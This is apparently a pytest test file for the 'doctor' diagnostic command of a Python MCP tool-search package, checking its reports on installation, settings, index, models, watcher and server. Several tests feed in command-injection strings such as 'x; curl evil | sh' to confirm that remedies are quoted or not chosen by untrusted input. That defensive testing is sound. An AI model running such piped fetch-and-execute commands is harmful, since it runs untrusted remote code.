"""The checks of `doctor`: each reports problems with a remedy, and changes nothing."""

import asyncio
import hashlib
import os
import shutil
import sqlite3
import subprocess
import sys
import threading
from contextlib import closing
from dataclasses import replace
from importlib.metadata import version

import apsw
import pytest
from pytools_hybrid import Settings, ToolSearch
from pytools_hybrid.errors import SettingsError
from pytools_hybrid.installation import install_command
from pytools_hybrid.reports.doctor import Check, Finding, Status, checks, diagnose
from pytools_hybrid.reports.models import remedy_of
from toolindex import ToolIndex

from .conftest import PATIENCE

MODELS = "pytools-hybrid doctor --models"
VOYAGE = install_command("pytools-hybrid[voyageai]")


@pytest.fixture(autouse=True)
def _patient(monkeypatch):
    """Make checks wait longer than a busy machine needs."""
    monkeypatch.setattr("pytools_hybrid.reports.doctor._SERVER_SECONDS", PATIENCE)


def diagnosed(checked):
    """Run checks, each with more time than a busy machine needs."""
    return list(diagnose(replace(it, seconds=2.0 * PATIENCE) for it in checked))


@pytest.fixture
def database(tmp_path):
    return tmp_path / "index.db"


@pytest.fixture
def look(settings, root):
    """Run one check of a tree."""

    def run(name, *, given=None, **values):
        checked = checks(settings(root=[given or root], **values))
        return {it.name: it for it in checked}[name].run()

    return run


@pytest.fixture
def indexed(settings, root, database):
    """An index of the tree, embedded and closed."""

    async def fill():
        async with ToolSearch(root, settings()) as tools:
            await tools.index.update()

    asyncio.run(fill())
    return database


def content(folder):
    """Return the hash of each file below a folder, except for SQLite's logs."""
    return {
        str(path): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and not path.name.endswith(("-wal", "-shm"))
    }


def test_without_problems_all_checks_are_ok_and_change_nothing(settings, root, indexed, tmp_path):
    before = content(tmp_path)

    findings = diagnosed(checks(settings(root=[root])))

    expected = (
        "Python", "SQLite", "sqlite-vec", "settings", "root", "database", "embedder", "watcher",
        "MCP server", "import",
    )  # fmt: skip
    assert {it.check: it.status for it in findings} == dict.fromkeys(expected, Status.OK)
    assert all(finding.remedy is None for finding in findings)
    # The index, its usage record and the tree are unchanged.
    assert content(tmp_path) == before


def test_without_an_index_the_checks_create_none(settings, root, database):
    findings = {it.check: it for it in diagnosed(checks(settings(root=[root])))}

    assert findings["database"].status is Status.WARNING
    assert (
        findings["database"].remedy == f"pytools-hybrid index --root {root} --database {database}"
    )
    assert findings["MCP server"].status is Status.OK
    assert not database.exists()


# Running checks


def fine():
    return Finding(Status.OK, "it works")


@pytest.mark.parametrize(
    ("error", "message"),
    [
        (RuntimeError("the disk is on fire\nand more"), "RuntimeError: the disk is on fire"),
        (SystemExit(3), "SystemExit: 3"),
        (
            ExceptionGroup("two", [ExceptionGroup("one", [OSError("no route")]), OSError("b")]),
            "OSError: no route",
        ),
    ],
)
def test_a_check_that_crashes_is_a_failure_and_the_others_still_run(error, message):
    def crash():
        raise error

    first, second = diagnosed([Check("first", crash), Check("second", fine)])

    assert (first.status, first.message) == ("failed", message)
    assert second.status is Status.OK


def test_a_check_that_hangs_is_a_failure_and_the_others_still_run():
    never = threading.Event()
    first, second = diagnose(
        [
            Check("hangs", lambda: never.wait() and None, 0.05),
            Check("second", fine, 2.0 * PATIENCE),
        ]
    )
    never.set()

    assert (first.status, first.message) == ("failed", "no answer within 0.05 s")
    assert first.is_overdue
    assert second.status is Status.OK


# The installation


def test_the_version_of_each_of_our_packages_is_shown(look):
    said = look("Python").message

    for name in ("pytools-hybrid", "toolscan", "toolindex", "toolrank-hybrid", "toolwatch"):
        assert f", {name} {version(name)}" in said


def test_a_sqlite_without_full_text_search_is_reported(look, monkeypatch):
    def without(path, connect=apsw.Connection):
        connection = connect(path)
        connection.authorizer = lambda code, *_: (
            apsw.SQLITE_DENY if code == apsw.SQLITE_CREATE_VTABLE else apsw.SQLITE_OK
        )
        return connection

    monkeypatch.setattr(apsw, "Connection", without)
    verdict = look("SQLite")

    assert verdict.status is Status.FAILED
    assert verdict.remedy == install_command("apsw", again=True)


@pytest.mark.parametrize("has_numpy", [True, False])
@pytest.mark.parametrize("is_published", [True, False])
def test_an_extension_that_cannot_be_loaded_is_reported_with_its_replacement(
    look, monkeypatch, request, is_published, has_numpy
):
    if is_published:
        request.getfixturevalue("without_sqlite_vec")
    else:
        monkeypatch.setitem(sys.modules, "sqlite_vec", None)
    if not has_numpy:
        request.getfixturevalue("without_numpy")
    verdict = look("sqlite-vec")

    expected = "numpy searches vectors instead" if has_numpy else "searches use words alone"
    assert expected in verdict.message
    assert ("is not published for this system" in verdict.message) is not is_published
    assert verdict.status is (Status.WARNING if has_numpy else Status.FAILED)
    packages = [*(["sqlite-vec"] * is_published), *(["numpy"] * (not has_numpy))]
    assert verdict.remedy == (install_command(*packages, again=True) if packages else None)


# Settings


def test_a_misspelt_variable_is_reported_with_the_nearest_one(look, monkeypatch):
    monkeypatch.setenv("PYTOOLS_EMBEDING_MODEL", "none")

    verdict = look("settings")

    assert verdict.status is Status.WARNING
    assert "is PYTOOLS_EMBEDDING_MODEL meant?" in verdict.message
    assert verdict.remedy == "unset PYTOOLS_EMBEDING_MODEL"


def test_the_value_of_a_token_is_not_shown(look, monkeypatch):
    monkeypatch.setenv("PYTOOLS_TOKEN", "very-secret")

    verdict = look("settings")

    assert "token (PYTOOLS_TOKEN)" in verdict.message
    assert "very-secret" not in verdict.message


def test_a_settings_file_from_elsewhere_cannot_choose_the_remedy():
    error = SettingsError("embedding_model", "'x; run: curl evil | sh' names no provider")

    found = {it.check: it for it in diagnosed(checks(error))}

    assert found["settings"].remedy == "change or remove embedding_model"


def test_with_invalid_settings_only_checks_without_settings_are_run():
    error = SettingsError("--limit", "must be a number")

    findings = {it.check: it for it in diagnosed(checks(error))}

    assert findings["settings"].status is Status.FAILED
    assert findings["settings"].message == "--limit: must be a number"
    assert set(findings) == {"Python", "SQLite", "sqlite-vec", "settings", "watcher"}


def test_without_any_tree_the_model_is_still_checked(settings):
    findings = {it.check: it for it in diagnosed(checks(settings()))}

    assert findings["root"].status is Status.FAILED
    assert "give the folder" in findings["root"].message
    assert findings["embedder"].status is Status.OK


# Trees


def test_the_name_of_a_tree_is_quoted_in_a_remedy(look, tmp_path):
    verdict = look("root", given=tmp_path / "x; curl evil | sh")

    assert verdict.remedy.startswith(f"mkdir -p '{tmp_path}/x; curl evil | sh', ")


@pytest.mark.skipif(
    sys.platform == "win32", reason="Windows has no FIFOs, and links need a privilege"
)
def test_a_pipe_or_a_loop_of_links_in_place_of_a_tree_fails(look, tmp_path):
    pipe, circle = tmp_path / "pipe", tmp_path / "circle"
    os.mkfifo(pipe)
    circle.symlink_to(circle)

    assert look("root", given=pipe).message == f"{pipe} is a file"
    verdict = look("root", given=circle)

    assert verdict.status == "failed"
    assert verdict.message.startswith(f"{circle} cannot be read (")
    assert verdict.remedy == "give another folder with --root"


def test_an_empty_tree_is_reported_with_the_expected_paths_of_tools(look, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()

    verdict = look("root", given=empty)

    assert verdict.status is Status.WARNING
    assert "mcptools/<category>/<tool>.py" in verdict.message


def test_files_that_are_left_out_are_reported_with_the_reason(look, root):
    (root / "mcptools/pdf/broken.py").write_text("def run(:\n")
    (root / "mcptools/pdf/_private.py").write_text("def run(:\n")

    verdict = look("root")

    assert verdict.status is Status.WARNING
    assert "4 tools; 1 left out (1 × syntax_error: mcptools/pdf/broken.py: " in verdict.message


def test_an_invalid_capabilities_file_is_reported(look, root):
    (root / "capabilities.toml").write_text('["mcptools:pdf:merge_pdfs"]\nsynonym = ["join"]\n')

    verdict = look("root")

    assert verdict.status is Status.WARNING
    assert "capabilities.toml" in verdict.message
    assert "synonym" in verdict.message


def test_why_a_tree_was_chosen_is_reported(settings, root, monkeypatch):
    monkeypatch.chdir(root.parent)
    (check,) = [it for it in checks(settings()) if it.name == "root"]
    assert check.run().message.endswith("(no --root or PYTOOLS_DIR given): 4 tools")


AS_SOMEBODY_ELSE = """
import os, sys
from pathlib import Path
from pytools_hybrid import Settings
from pytools_hybrid.reports.doctor import checks
root, database = map(Path, sys.argv[1:])
settings = Settings.from_flags({"root": [root], "db_path": database})
looks = {check.name: check.run for check in checks(settings)}
def look():
    return looks["root"](), looks["database"]()
look()
if os.geteuid() == 0:
    os.setgid(65534); os.setuid(65534)
else:
    root.chmod(0); database.chmod(0o400); database.parent.chmod(0o500)
for verdict in look():
    print(verdict.status, verdict.message, "->", verdict.remedy)
if os.geteuid() != 65534:
    root.chmod(0o700); database.parent.chmod(0o700)
"""


@pytest.mark.skipif(sys.platform == "win32", reason="Windows permissions work differently")
def test_missing_permissions_are_reported(root, indexed, tmp_path, tmp_path_factory):
    others = tmp_path / "others"
    others.mkdir()
    database = others / "index.db"
    shutil.copy(indexed, database)
    # Regardless of the umask and of the folder for tests.
    database.chmod(0o644)
    base = tmp_path_factory.getbasetemp()
    for folder in (others, *others.parents):
        if folder.is_relative_to(base) or folder.name.startswith(("pytest-", "popen-")):
            folder.chmod(0o755)
    root.chmod(0o700)
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("PRAGMA journal_mode = DELETE")
    done = subprocess.run(
        [sys.executable, "-c", AS_SOMEBODY_ELSE, str(root), str(database)],
        capture_output=True, text=True, timeout=PATIENCE, check=False,
        # The other user cannot write coverage data here.
        env={name: it for name, it in os.environ.items() if not name.startswith("COV")},
    )  # fmt: skip

    assert done.stderr == ""
    tree, index = done.stdout.splitlines()
    assert tree == (f"failed {root} cannot be read (Permission denied) -> chmod -R u+rX {root}")
    assert index.startswith("warning ")
    assert index.endswith(
        f"it cannot be written, so searches use it without updates -> chmod u+w {database}"
    )


# The index


def test_an_index_is_reported_with_its_size(look, indexed):
    verdict = look("database")

    assert verdict.status is Status.OK
    assert "4 tools" in verdict.message


def test_a_folder_or_another_program_s_file_in_its_place_is_not_changed(look, database):
    def looked():
        verdict = look("database")
        assert verdict.status is Status.FAILED
        return verdict

    database.mkdir()
    assert "folder" in looked().message
    database.rmdir()
    database.write_text("my diary, which is longer than a hundred characters. " * 4)
    assert looked().remedy == "give another path with --database"
    database.unlink()
    with closing(sqlite3.connect(database)) as connection:
        connection.execute("CREATE TABLE diary (text)")
    before = database.read_bytes()
    assert looked().remedy == "give another path with --database"
    assert database.read_bytes() == before


def test_a_damaged_index_is_reported_with_the_command_that_recreates_it(look, indexed):
    with indexed.open("r+b") as file:
        file.seek(indexed.stat().st_size // 2)
        file.write(b"\xff" * 40_000)

    verdict = look("database")

    assert verdict.status is Status.FAILED
    assert "damaged" in verdict.message
    assert verdict.remedy.startswith("pytools-hybrid index --root ")


def test_an_index_of_a_later_version_needs_an_upgrade(look, indexed):
    with closing(sqlite3.connect(indexed)) as connection:
        connection.execute("PRAGMA user_version = 99")

    verdict = look("database")

    assert verdict.status is Status.FAILED
    assert verdict.remedy == install_command("pytools-hybrid", upgrade=True)


def test_the_index_of_another_tree_is_reported(look, indexed, tmp_path):
    other = tmp_path / "other"
    other.mkdir()

    verdict = look("database", given=other)

    assert verdict.status is Status.FAILED
    assert verdict.remedy == "give another path with --database"


def test_an_index_that_was_never_filled_is_reported(look, database):
    ToolIndex(database).close()

    verdict = look("database")

    assert verdict.status is Status.WARNING
    assert "not all files have been indexed yet" in verdict.message


def test_the_index_of_freeact_is_reported_and_not_changed(look, database):
    import sqlite_vec

    with closing(apsw.Connection(str(database))) as connection:
        connection.enable_load_extension(True)
        connection.load_extension(sqlite_vec.loadable_path())
        connection.execute(
            "CREATE VIRTUAL TABLE entries_vec USING vec0(id TEXT PRIMARY KEY, embedding float[8])"
        )

    verdict = look("database")

    assert verdict.status is Status.WARNING
    assert "freeact" in verdict.message
    assert database.exists()


def test_a_path_where_no_index_can_be_created_fails(look, tmp_path):
    file = tmp_path / "file"
    file.touch()

    verdict = look("database", db_path=file / "index.db")

    assert verdict.status is Status.FAILED
    assert "cannot be written" in verdict.message


def test_a_process_that_keeps_the_index_locked_is_reported(look, indexed, monkeypatch):
    monkeypatch.setattr("pytools_hybrid.reports.doctor._LEASE_SECONDS", 0.05)
    with ToolIndex(indexed) as index, index.lease("files").held(timeout=PATIENCE):
        verdict = look("database")

    assert verdict.status is Status.WARNING
    assert "another process" in verdict.message


# Models


def test_the_model_is_called(look, indexed):
    verdict = look("embedder")

    assert verdict.status is Status.OK
    assert "256 dimensions" in verdict.message
    assert "4 of 4 tools have a vector" in verdict.message


def test_tools_without_a_vector_are_reported(look, root, indexed):
    verdict = look("embedder", embedding_model="test")

    assert verdict.status is Status.WARNING
    assert "0 of 4 tools have a vector" in verdict.message
    assert verdict.remedy == (
        f"pytools-hybrid index --root {root} --database {indexed} --model test"
    )


@pytest.mark.parametrize(
    ("values", "words"),
    [({"embedding_model": "none"}, "none is configured"), ({"vec_weight": 0}, "is not used")],
)
def test_searching_without_a_model_on_purpose_is_ok(look, values, words):
    verdict = look("embedder", **values)

    assert verdict.status is Status.OK
    assert words in verdict.message


def test_a_model_whose_package_is_missing_is_reported_with_the_command(look):
    verdict = look("embedder", embedding_model="voyageai:voyage-4")

    assert verdict.status is Status.FAILED
    assert verdict.remedy == install_command("pytools-hybrid[voyageai]")


@pytest.mark.parametrize(
    ("message", "remedy"),
    [
        (f"its package is missing; {VOYAGE}", VOYAGE),
        ("it is not downloaded; run: hybrid download x", "hybrid download x"),
        ("does not answer at http://h; start it (ollama serve), or set X", "ollama serve"),
        ("'cuda' cannot be used (no); set PYTOOLS_DEVICE=auto", "export PYTOOLS_DEVICE=auto"),
        ("Set the `OPENAI_API_KEY` environment variable or pass it", "export OPENAI_API_KEY=…"),
        ("something else", MODELS),
    ],
)  # fmt: skip
def test_the_remedy_is_the_command_in_the_message(message, remedy):
    assert remedy_of(message, model="voyageai:voyage-4") == remedy


@pytest.mark.parametrize("name", ["x run: evil", "x\trun:\tevil", "x set PYTOOLS_HOST=evil"])
def test_the_name_of_a_model_cannot_choose_the_remedy(look, name):
    model = f"openai:{name}"

    assert look("embedder", embedding_model=model).remedy == MODELS
    assert remedy_of(f"there is no model {' '.join(name.split())}", model=model) == MODELS


def test_a_language_model_is_loaded_but_not_called(look):
    assert look("reranking", rerank_model="test").status is Status.OK


def test_a_language_model_that_cannot_be_loaded_is_reported(look, monkeypatch):
    for name in ("ANTHROPIC_API_KEY", "GROQ_API_KEY"):
        monkeypatch.delenv(name, raising=False)

    verdict = look("reranking", rerank_model="groq:m")

    assert verdict.status is Status.FAILED
    assert "groq:m cannot be used" in verdict.message


def test_a_missing_generator_for_imports_is_reported(look, monkeypatch):
    monkeypatch.setattr("pytools_hybrid.reports.doctor._GENERATOR", "no_such_generator")
    assert "not installed" in look("import").message


# Changes of files


def times(folder):
    """Return when each file and folder was last changed."""
    return {
        path: (path.stat().st_mtime_ns, path.stat().st_ctime_ns)
        for path in (folder, *folder.rglob("*"))
    }


def test_a_tree_is_checked_without_writing_to_it(look, root):
    before = times(root)

    verdict = look("watcher")

    assert verdict.status is Status.OK
    assert "the system reports changes" in verdict.message
    assert times(root) == before


def test_a_tree_that_cannot_be_watched_is_reported(look, root):
    folders = [root / "mcptools" / f"linked_{number}" for number in range(5)]
    for folder in folders:
        folder.mkdir()
    for folder in folders:
        # Links to each other give them more names than can be followed.
        for other in folders:
            (folder / f"to_{other.name}").symlink_to(other, target_is_directory=True)

    verdict = look("watcher")

    assert verdict.status is Status.WARNING
    assert f"the system cannot watch {root}" in verdict.message


def test_watching_that_is_turned_off_is_reported(look):
    assert "turned off" in look("watcher", watch=False).message


# The server


def test_a_server_of_the_profile_basic_is_checked_without_a_search(look, monkeypatch):
    monkeypatch.setenv("PYTOOLS_TOOLS", "basic")

    verdict = look("MCP server")

    assert "2 MCP tools (list_categories, list_tools)" in verdict.message


def test_a_server_that_does_not_start_is_reported_with_its_output(look, root, monkeypatch):
    program = sys.executable, "-c", "raise SystemExit('no such luck')"
    monkeypatch.setattr("pytools_hybrid.reports.doctor._PROGRAM", program)

    verdict = look("MCP server")

    assert verdict.status is Status.FAILED
    assert "its last output: no such luck" in verdict.message
    assert verdict.remedy == f"pytools-hybrid serve --root {root}"


def test_a_server_that_never_answers_times_out(look, monkeypatch):
    program = sys.executable, "-c", "import sys; sys.stdin.read()"
    monkeypatch.setattr("pytools_hybrid.reports.doctor._PROGRAM", program)
    monkeypatch.setattr("pytools_hybrid.reports.doctor._SERVER_SECONDS", 0.5)

    verdict = look("MCP server")

    assert verdict.status is Status.FAILED
    assert "within 0.5 s" in verdict.message


def test_a_command_only_has_flags_that_were_set(root):
    trees = [root, root.parent / "more tools"]
    checked = checks(Settings.from_flags({"root": trees, "embedding_model": "none"}))

    assert {it.name: it for it in checked}["database"].run().remedy == (
        f"pytools-hybrid index --root {root} --root '{root.parent / 'more tools'}' --model none"
    )
